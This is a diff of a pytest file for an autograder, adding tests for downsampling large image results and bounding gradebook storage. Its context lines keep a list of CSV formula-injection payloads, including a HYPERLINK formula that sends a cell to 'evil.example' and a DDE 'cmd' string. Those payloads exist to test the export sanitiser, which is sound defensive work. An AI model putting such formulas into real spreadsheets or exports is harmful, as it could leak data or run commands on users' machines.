@@ -5,10 +5,13 @@ collision-free file names."""
 import csv
 import io
 
+import numpy as np
 import pytest
+from PIL import Image
 
 from autograder import export
-from autograder.reports import nbgrader_csv, safe_csv
+from autograder.gradebook import MAX_MESSAGE_CHARS, Gradebook
+from autograder.reports import feedback, images, nbgrader_csv, safe_csv
 from autograder.result import ItemResult, Result
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
@@ -64,3 +67,77 @@ def test_gradebook_and_nbgrader_csv_hold_no_formula():
         assert not [c for c in cells if c.startswith(safe_csv.FORMULA_STARTS)]
         for name in FORMULAS:
             assert safe_csv.cell(name) in cells
+
+
+# ----------------------------------------------------------------------------- pictures
+def _image_item(got, expected=None):
+    from autograder import compare
+
+    expected = np.zeros((12, 12)) if expected is None else expected
+    with pytest.raises(compare.Mismatch) as info:
+        compare.close(got, expected, "conv2d(image=…)", image=True)
+    return ItemResult("convolution.conv2d_kernel_not_flipped", "convolution", "conv2d", 0.0, 3.0, "failed",
+                      "hidden", info.value.message, details=info.value.details)
+
+
+@pytest.mark.parametrize("side", [2048, 4096])
+def test_a_huge_returned_image_is_kept_and_drawn_small(side, tmp_path):
+    got = np.random.default_rng(side).random((side, side))
+    item = _image_item(got)
+    kept = item.details["image"]
+    assert kept["got"].shape == (256, 256) and kept["shapes"]["got"] == (side, side)
+    assert kept["got"].nbytes <= 256 * 256 * 8  # the grader does not hold the full array for the report
+    del got
+    result = Result("big", [item])
+    pictures = images.collect(result)
+    assert set(pictures[item.id]) == {"expected", "got"}
+    assert all(len(png) <= images.MAX_PNG_BYTES for png in pictures[item.id].values())
+    assert images.source_shape(pictures[item.id]["got"]) == (side, side)
+    assert images.source_shape(pictures[item.id]["expected"]) is None
+    assert Image.open(io.BytesIO(pictures[item.id]["got"])).size == (256, 256)
+
+    html_path, md_path = feedback.write_feedback(result, pictures, tmp_path, "en")
+    page = html_path.read_text(encoding="utf-8")
+    assert html_path.stat().st_size < 200_000 and md_path.stat().st_size < 50_000
+    step = side // 256
+    assert f"Shown downsampled from {side}×{side} (every {step}th row and column)." in page
+    assert f"由 {side}×{side} 縮小顯示" in page
+    assert f"Shown downsampled from {side}×{side}" in md_path.read_text(encoding="utf-8")
+
+
+def test_to_png_downsamples_any_array_it_is_given():
+    png = images.to_png(np.arange(1000 * 10.0).reshape(1000, 10), 0, 1e4)
+    assert Image.open(io.BytesIO(png)).size == (3, 250)  # every 4th row and column, not enlarged
+    assert images.source_shape(png) == (1000, 10)
+
+
+def test_small_pictures_are_unchanged_and_say_nothing_of_downsampling():
+    item = _image_item(np.ones((12, 12)))
+    assert item.details["image"]["got"].shape == (12, 12)
+    pictures = images.collect(Result("s", [item]))[item.id]
+    assert images.source_shape(pictures["got"]) is None
+    assert Image.open(io.BytesIO(pictures["got"])).size == (156, 156)
+    assert "Shown downsampled" not in feedback.render_html(Result("s", [item]), pictures, "en")
+
+
+def test_batch_and_feedback_draw_with_the_same_function():
+    from autograder import batch
+
+    assert feedback.collect_images is images.collect
+    item = _image_item(np.ones((40, 40)))
+    assert batch.render_images(Result("s", [item])) == images.collect(Result("s", [item]))
+
+
+# ----------------------------------------------------------------------------- gradebook bounds
+def test_the_gradebook_stores_bounded_messages_and_pictures(tmp_path):
+    huge = "x" * 5_000_000
+    item = ItemResult("activations.sigmoid_values", "activations", "sigmoid", 0.0, 4.0, "failed", "public",
+                      {"zh-TW": huge, "en": "short"})
+    with Gradebook(tmp_path / "g.sqlite") as book:
+        book.record("h" * 64, "v", Result("s", [item]),
+                    {item.id: {"expected": b"p" * 1000, "got": b"q" * (images.MAX_PNG_BYTES + 1)}})
+        stored = book.result("h" * 64, "v", "s").items[0].message
+        assert len(stored["zh-TW"]) <= MAX_MESSAGE_CHARS and stored["en"] == "short"
+        assert stored["zh-TW"].endswith(f"({5_000_000 - (MAX_MESSAGE_CHARS - 60)} more characters not stored)")
+        assert book.images("h" * 64, "v") == {item.id: {"expected": b"p" * 1000}}
+    assert (tmp_path / "g.sqlite").stat().st_size < 1_000_000
